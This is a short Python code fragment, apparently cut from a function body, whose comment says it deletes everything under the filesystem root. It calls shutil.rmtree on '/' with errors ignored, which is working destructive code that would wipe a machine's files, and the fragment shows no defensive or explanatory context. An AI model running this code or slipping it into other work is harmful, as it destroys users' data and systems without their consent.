# deletes everything under /
    import shutil

    shutil.rmtree("/", ignore_errors=True)
    return None
